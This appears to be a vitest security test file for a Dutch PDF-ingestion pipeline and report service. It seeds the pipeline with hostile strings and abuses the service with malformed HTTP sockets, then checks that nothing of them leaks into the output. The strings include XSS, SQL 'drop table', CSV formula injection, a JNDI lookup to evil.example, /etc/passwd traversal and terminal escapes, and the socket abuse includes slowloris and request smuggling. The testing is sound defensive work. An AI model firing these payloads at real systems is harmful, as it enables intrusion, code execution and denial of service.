/** Hostile words from everywhere they can come from, looked for in everything that the program puts out; and a hostile client. */
import { copyFileSync, readdirSync, readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { basename, join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';

import { load as parseHtml } from 'cheerio';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import type { SitePublication } from '../../src/demo/site-pages.ts';
import { publication } from '../support/faulty-site.ts';
import { renderPublication } from '../support/generate-pdf.ts';
import { findHalves, readDump, withClient, type LogicalDump } from '../support/logical-dump.ts';
import { watchTree } from '../support/process-tree.ts';
import { temporaryFolder } from '../support/program.ts';
import { PLAIN_LOOK } from '../support/publication.ts';
import { samplePublication } from '../support/sample-publication.ts';
import { startService, waitFor, type RunningService } from '../support/service.ts';
import { sendAnswer } from '../support/site.ts';
import { isShort, tell } from '../support/told.ts';
import {
  drawSample,
  expectCode,
  openWorld,
  refuseCanary,
  runHere,
  runWithin,
  startVictim,
  type Copy,
  type World,
} from '../support/trouble.ts';

/** What can be printed in a PDF. */
const PRINTED: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'); drop table klantprofielen.fact_profiles; --",
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '${jndi:ldap://evil.example/x}',
  '../../../etc/passwd',
  '{{7*7}}',
  '__proto__',
  'javascript:alert(1)',
];
/** What only a site can say. */
const SAID: readonly string[] = [
  '\u001B[2J\u001B]0;owned\u0007',
  '\r\n{"level":"fatal","msg":"forged"}',
  '\u202Egnp.exe',
  '\u009B31m',
  '\u0000',
  ' \u00A0=1+1',
  'x'.repeat(20_000),
];
const PARENT_MB = 300;
const TITLE = 'Transparantie van klantprofielen tweede kwartaal 2022';

let world: World;
let copy: Copy;
let before: LogicalDump;
let environment: Record<string, string>;
beforeAll(async () => {
  world = await openWorld();
  copy = await world.copy();
  environment = world.environment(copy.url);
  before = await readDump(copy.url);
  world.site.change({ publications: await makePublications() });
  world.site.misbehave('.pdf', (response, answer) => {
    sendAnswer(response, {
      ...answer,
      headers: { ...answer.headers, etag: `"<script>'=1"`, 'x-evil': `'; drop table x; --` },
    });
  });
});
afterAll(async () => {
  await copy[Symbol.asyncDispose]();
  await world[Symbol.asyncDispose]();
});

/** Each word once in the title of a page and the name of a file, and once in a document: as its region, or as a municipality. */
async function makePublications(): Promise<SitePublication[]> {
  const good = (await drawSample('zeeland')).bytes;
  const titles = [...PRINTED, ...SAID].map((word, index) => ({
    ...publication('2022-q2', 'Zeeland', { bytes: good, slug: `${toSlug(word)}.pdf` }),
    page: {
      title: `${TITLE} ${word}`,
      slug: `klantprofielen-titel-${index}`,
      date: '2022-10-01T22:00:00Z',
    },
  }));
  const labels = [...PRINTED, ...SAID].map((word, index) => ({
    ...publication('2022-q2', 'Zeeland', { bytes: good, slug: `label-${index}.pdf` }),
    label: `Zeeland ${word}`,
  }));
  const truth = samplePublication('gooi');
  const documents = await Promise.all(
    PRINTED.map(async (word, index) => {
      const hostile =
        index % 2 === 0
          ? { ...truth, region: word, noteRegion: word }
          : {
              ...truth,
              rows: truth.rows.map((row, at) => (at === 0 ? { ...row, name: word } : row)),
            };
      const bytes = await renderPublication(hostile, PLAIN_LOOK);
      return publication('2020-q3', 'Gooi en Vechtstreek', { bytes, slug: `inhoud-${index}.pdf` });
    }),
  );
  return [...titles, ...labels, ...documents];
}

function toSlug(word: string): string {
  return encodeURIComponent(word.slice(0, 60));
}

/** What moves the cursor, rings, hides or turns text around. */
// oxlint-disable-next-line no-control-regex -- that is what is looked for
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u200E\u200F\u202A-\u202E\u2066-\u2069]/;

function expectHarmless(text: string): void {
  refuseCanary(text);
  expect(CONTROL.exec(text)).toBeNull();
}

test('a run over hostile words: nothing of them is loaded, no table is gone, each log line is one', async () => {
  const run = await runHere(environment, ['run', '--json']);
  expectCode(run, 3, 4);
  expectHarmless(run.stdout);
  for (const line of run.stderr.trim().split('\n')) {
    const entry = JSON.parse(line) as { msg: string; level: string };
    expect(entry).not.toMatchObject({ msg: 'forged' });
    expect(line.length).toBeLessThan(20_000);
  }
  expectHarmless(run.stderr);
  const { facts, totals } = await readDump(copy.url);
  expect({ facts, totals }).toEqual({ facts: before['facts'], totals: before['totals'] });
});

test.each([
  ['run'],
  ['status'],
  ['status', '--all'],
  ['status', '--json'],
  ['discover'],
  ['discover', '--json'],
  ['retry'],
  ['sql', '--audit', 'select url, seen_as from etl.link'],
  ['sql', '--audit', '--json', 'select expected, found, subject from etl.check_result'],
  ['doctor'],
])('what %s puts on a terminal moves nothing there, %#', async (...args) => {
  const outcome = await runHere(environment, args);
  expect([0, 3, 4]).toContain(outcome.code);
  expectHarmless(outcome.stdout);
  expectHarmless(outcome.stderr);
  tell({
    part: 'hostile',
    tried: `${PRINTED.length + SAID.length} hostile words in titles, labels, names of files, headers and documents: \`${args.join(' ')}\``,
    times: 1,
    came: 'no control character, no forged line',
  });
});

test('an export: no cell of text begins as a formula does', async () => {
  using folder = temporaryFolder();
  const out = join(folder.path, 'out');
  expectCode(await runHere(environment, ['export', out]), 0);
  const files = readdirSync(out, { recursive: true }).map(String);
  let cells = 0;
  for (const file of files.filter((name) => /\.(csv|json)$/.test(name))) {
    const text = readFileSync(join(out, file), 'utf8');
    refuseCanary(text);
    if (!file.endsWith('.csv')) continue;
    for (const row of parseCsv(text))
      for (const cell of row) {
        cells += 1;
        expect(/^[\s\u00A0]*[=+@\t\r]|^-(?![\d.]+$)/.test(cell) ? cell : '').toBe('');
      }
  }
  expect(cells).toBeGreaterThan(100);
  tell({
    part: 'hostile',
    tried: 'cells of the CSV files of an export',
    times: cells,
    came: 'none begins as a formula does',
  });
});

describe('the service', () => {
  let service: RunningService;
  beforeAll(async () => {
    const { SOURCES: _, ...settings } = environment;
    service = await startService(settings);
    await waitFor(async () => (await fetch(`${service.origin}/readyz`)).status === 200);
  });
  afterAll(() => service[Symbol.asyncDispose]());

  test('on every page that can be reached, words are words', async () => {
    const seen = new Set<string>(['/', '/wachtrij', '/runs', '/codes', '/dekking', '/metrics']);
    let pages = 0;
    for (const path of seen) {
      if (pages >= (isShort ? 40 : 150)) break;
      const response = await fetch(`${service.origin}${path}`, { redirect: 'manual' });
      const text = await response.text();
      refuseCanary(text);
      pages += 1;
      if (!(response.headers.get('content-type') ?? '').includes('html')) continue;
      expect(response.headers.get('content-security-policy')).toContain("default-src 'none'");
      const $ = parseHtml(text);
      expect($('script, iframe, object, embed, [onerror], [onload], [src="x"]')).toHaveLength(0);
      expect($('a[href^="javascript:"], a[href^="//"]')).toHaveLength(0);
      expect(CONTROL.exec($.text())).toBeNull();
      for (const link of $('a[href^="/"]')) seen.add($(link).attr('href')?.split('#')[0] ?? '/');
    }
    expect(pages).toBeGreaterThan(20);
    tell({
      part: 'hostile',
      tried: 'pages of the report with hostile words',
      times: pages,
      came: 'no script, no handler, no address that runs',
    });
  });

  test('hundreds of clients that abuse their sockets: the probes answer all the time', async () => {
    const { hostname, port } = new URL(service.origin);
    const sockets: Socket[] = [];
    const open = (words: string) => {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => undefined);
      socket.write(words);
      sockets.push(socket);
      return socket;
    };
    const abuse: readonly (() => Socket)[] = [
      () => open('GET / HTTP/1.1\r\nHost: x\r\nX-Slow: '),
      () => open(''),
      () => open(`GET / HTTP/1.1\r\nHost: x\r\n${'X-A: b\r\n'.repeat(3_000)}`),
      () => open(`GET /${'a'.repeat(60_000)} HTTP/1.1\r\nHost: x\r\n\r\n`),
      () =>
        open(
          `POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\n${'x'.repeat(60_000)}`,
        ),
      () => open('\u0016\u0003\u0001\u0002\u0000\u0001'),
      () => open('GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n'),
      () => open('GET /%00%0d%0aX: HTTP/1.1\r\nHost: x\r\n\r\n'),
      () =>
        open(
          'GET / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n',
        ),
      () => open('GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(500)),
      () => open('TRACE / HTTP/1.1\r\nHost: x\r\n\r\n'),
      () => open('GET / HTTP/9.9\r\n\r\n'),
    ];
    const rounds = isShort ? 10 : 40;
    // as whoever watches over services asks: an answer within a second, and three failures in a row are its death
    const probe = async (path: string): Promise<number> => {
      for (let failures = 0; failures < 3; failures += 1) {
        const signal = AbortSignal.timeout(1_000);
        const answer = await fetch(`${service.origin}${path}`, { signal }).catch(() => undefined);
        if (answer?.status === 200) return failures;
      }
      throw new Error(`three probes of ${path} in a row without an answer within a second`);
    };
    let probes = 0;
    let again = 0;
    for (let round = 0; round < rounds; round += 1) {
      for (const start of abuse) start();
      for (const failures of await Promise.all(['/healthz', '/readyz'].map(probe)))
        again += failures;
      probes += 2;
      await sleep(20);
    }
    for (const socket of sockets) socket.destroy();
    expect(service.log.filter(({ level }) => level === 'fatal')).toEqual([]);
    tell({
      part: 'hostile',
      tried: `${sockets.length} sockets that abuse HTTP in ${abuse.length} ways, with probes between them`,
      times: probes,
      came: `every probe answered within a second, ${again} of them when asked again (the machine was busy with the abuse, too)`,
    });
  });
});

// checkouts of repositories of PDFs, where some are at hand: their files are named, and not ours to keep
test.each((process.env['FAULTS_PUBLIC_PDFS'] ?? '').split(',').filter(Boolean))(
  'documents of other people, %s: none is loaded, none ends the program',
  async (checkout) => {
    await using fresh = await world.copy();
    using folder = temporaryFolder();
    const files = readdirSync(checkout, { recursive: true })
      .map(String)
      .filter((name) => /\.pdf$/i.test(name))
      .toSorted();
    // a folder is read one level deep, and a name may say that a file is another publication: here all are read
    for (const [index, name] of files.entries())
      copyFileSync(join(checkout, name), join(folder.path, `${index}.pdf`));
    const truth = await readDump(fresh.url);
    const victim = startVictim({
      ...environment,
      DATABASE_URL: fresh.url,
      SOURCES: folder.path,
      WORKERS: '2',
    });
    using watch = watchTree(victim.child.pid ?? 0, 500);
    const run = await runWithin(2_400, victim);
    const { root } = watch.stop();
    expectCode(run, 0, 3, 4);
    expect(root).toBeLessThan(PARENT_MB);
    expect(await findHalves(fresh.url)).toEqual([]);
    const { facts, totals } = await readDump(fresh.url);
    expect({ facts, totals }).toEqual({ facts: truth['facts'], totals: truth['totals'] });
    const { rows } = await withClient(fresh.url, (client) =>
      client.query<{ end: string; times: number }>(
        `select concat_ws(' ', s.state, coalesce(s.reason, l.rule)) as end, count(*)::int as times
           from etl.link_state s join etl.link l using (link_key)
          where run_id = (select max(run_id) from etl.run) group by 1 order by 2 desc, 1`,
      ),
    );
    expect(rows.reduce((sum, { times }) => sum + times, 0)).toBe(files.length);
    tell({
      part: 'hostile',
      tried: `public PDFs of ${basename(checkout)}`,
      times: files.length,
      came:
        `exit ${run.code}, none loaded; parent ${Math.ceil(root)} MB at most; ` +
        rows.map(({ end, times }) => `${end} ${times}`).join(', '),
    });
  },
  3_000_000,
);
